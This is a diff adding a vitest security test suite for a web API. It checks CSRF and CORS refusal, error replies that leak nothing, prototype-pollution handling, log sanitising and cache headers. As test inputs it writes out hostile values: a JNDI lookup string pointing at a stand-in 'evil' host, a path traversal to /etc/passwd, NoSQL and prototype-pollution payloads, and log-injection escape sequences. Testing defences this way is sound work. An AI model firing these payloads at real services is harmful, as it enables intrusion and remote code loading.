@@ -1,0 +1,152 @@
+import { Writable } from 'node:stream';
+import { CALLS } from '@assay/contract/calls.ts';
+import { openTestSite, type TestSite } from '@assay/testkit/app.ts';
+import { buildUser } from '@assay/testkit/build/user.ts';
+import { pino } from 'pino';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { buildApp } from '../../app.ts';
+
+let site: TestSite;
+beforeAll(async () => {
+  site = await openTestSite();
+});
+afterAll(() => site.close());
+
+const changing = CALLS.filter((op) => op.method !== 'GET' || op.name.toLowerCase().includes('logout'));
+
+test('T-CSRF-1 a foreign page changes nothing: its requests carry no token, and are refused by their mark', async () => {
+  const user = await buildUser(site);
+  expect(changing.length).toBeGreaterThan(20);
+  for (const op of changing) {
+    if (op.access === 'judge') continue;
+    for (const contentType of ['text/plain', 'application/x-www-form-urlencoded']) {
+      const answer = await site.app.inject({
+        method: op.method,
+        url: op.path,
+        headers: {
+          'sec-fetch-site': 'cross-site',
+          origin: 'https://evil.example',
+          cookie: `token=${user.token}; authorization=${user.token}`,
+          ...(op.method === 'GET' ? {} : { 'content-type': contentType }),
+        },
+        ...(op.method === 'GET' ? {} : { payload: 'a=b' }),
+      });
+      expect([op.name, answer.statusCode, answer.json().data.code]).toEqual([op.name, 403, 'request.crossSite']);
+    }
+  }
+});
+
+test('T-CSRF-1 without the mark of a browser the missing token refuses, cookies count for nothing', async () => {
+  const user = await buildUser(site);
+  for (const op of changing.filter(({ access }) => access !== 'anyone')) {
+    const answer = await site.app.inject({
+      method: op.method,
+      url: op.path,
+      headers: { cookie: `token=${user.token}` },
+    });
+    expect([op.name, answer.statusCode]).toEqual([op.name, 401]);
+  }
+});
+
+test.each(['https://evil.example', 'null', 'https://sub.evil.example', 'http://localhost:3000'])(
+  'T-CORS-1 the origin %s gets no leave',
+  async (origin) => {
+    for (const method of ['GET', 'OPTIONS'] as const) {
+      const answer = await site.app.inject({ method, url: '/api/get-website-config', headers: { origin } });
+      const allowed = Object.keys(answer.headers).filter((name) => name.startsWith('access-control-'));
+      expect(allowed).toEqual([]);
+    }
+  },
+);
+
+test('T-LEAK-1 fifty malformed requests get short answers without anything of the inside', async () => {
+  const user = await buildUser(site);
+  const bodies = ['{', '[]', 'null', '"x"', '{"username":{"$gt":""}}', `{"a":${'['.repeat(5000)}`, '\u0000', '1e999'];
+  const queries = [
+    "'",
+    '%00',
+    '%',
+    'limit[]=1',
+    'currentPage=abc',
+    'tp=9',
+    'id=1e3',
+    'id=-1',
+    'id=99999999999999999999',
+  ];
+  const requests = [
+    ...bodies.flatMap((payload) =>
+      ['/api/login', '/api/register', '/api/change-userInfo', '/api/solve-slide-puzzle'].map((url) => ({
+        method: 'POST' as const,
+        url,
+        payload,
+      })),
+    ),
+    ...queries.flatMap((query) =>
+      ['/api/get-recent-seven-ac-rank', '/api/get-register-code'].map((url) => ({
+        method: 'GET' as const,
+        url: `${url}?${query}`,
+      })),
+    ),
+    { method: 'POST' as const, url: '/api/login', payload: `"${'x'.repeat(2_000_000)}"` },
+    { method: 'GET' as const, url: '/api/%' },
+    { method: 'GET' as const, url: '/api/../../etc/passwd' },
+  ];
+  expect(requests.length).toBeGreaterThanOrEqual(50);
+  for (const request of requests) {
+    const headers = { 'content-type': 'application/json', authorization: user.token };
+    const answer = await site.app.inject({ ...request, headers: request.method === 'POST' ? headers : {} });
+    expect([request.url, answer.statusCode < 500]).toEqual([request.url, true]);
+    expect(answer.body).not.toMatch(
+      /\bat .*:\d+:\d+|node_modules|\/src\/|select |insert |postgres|kysely|fastify|FST_/i,
+    );
+    expect(answer.body.length).toBeLessThan(1_000);
+    expect(answer.headers).not.toHaveProperty('server');
+    expect(answer.headers).not.toHaveProperty('x-powered-by');
+  }
+});
+
+test('T-PP-1 keys that would reach a prototype are ignored', async () => {
+  const payload = '{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}},"username":"a","password":"b"}';
+  const headers = { 'content-type': 'application/json' };
+  const answer = await site.app.inject({ method: 'POST', url: '/api/login?__proto__[x]=1', payload, headers });
+  expect(answer.statusCode).toBe(400);
+  expect(answer.json().data.code).toBe('account.badCredentials');
+  expect(({} as { x?: number }).x).toBeUndefined();
+});
+
+test('T-LOG-1 lines stay lines, and no password, token or code is in them', async () => {
+  const lines: string[] = [];
+  const sink = new Writable({
+    write(chunk, _encoding, done) {
+      lines.push(...String(chunk).split('\n').filter(Boolean));
+      done();
+    },
+  });
+  const app = await buildApp({ ...site.services, log: pino({ level: 'debug' }, sink) });
+  const user = await buildUser(site);
+  const headers = { authorization: user.token, 'user-agent': `\u001b[31m ${'$'}{jndi:ldap://evil}` };
+  await app.inject({ method: 'GET', url: '/api/get-user-auth-info', headers });
+  await app.inject({ method: 'GET', url: '/api/get-register-code?email=secret%40example.org&code=424242' });
+  await app.inject({
+    method: 'POST',
+    url: '/api/login',
+    headers,
+    payload: { username: 'evil\n{"level":60}\u001b[2J', password: 'hunter-22-secret' },
+  });
+  await app.inject({ method: 'GET', url: '/api/%0a%1b[31mfake' });
+  await app.close();
+  const all = lines.join('\n');
+  expect(lines.length).toBeGreaterThanOrEqual(4);
+  for (const line of lines) expect(() => JSON.parse(line)).not.toThrow();
+  for (const secret of [user.token, 'secret@example.org', 'secret%40', '424242', 'hunter-22-secret', '\u001b']) {
+    expect(all).not.toContain(secret);
+  }
+  expect(all).toContain('"requestId":"');
+});
+
+test('T-CACHE-1 answers of one viewer are kept by no shared cache', async () => {
+  const user = await buildUser(site);
+  const answer = await site.app.inject({ url: '/api/get-user-auth-info', headers: { authorization: user.token } });
+  expect(answer.headers['cache-control']).toBe('private, no-store');
+  expect(answer.headers.vary).toContain('Authorization');
+});
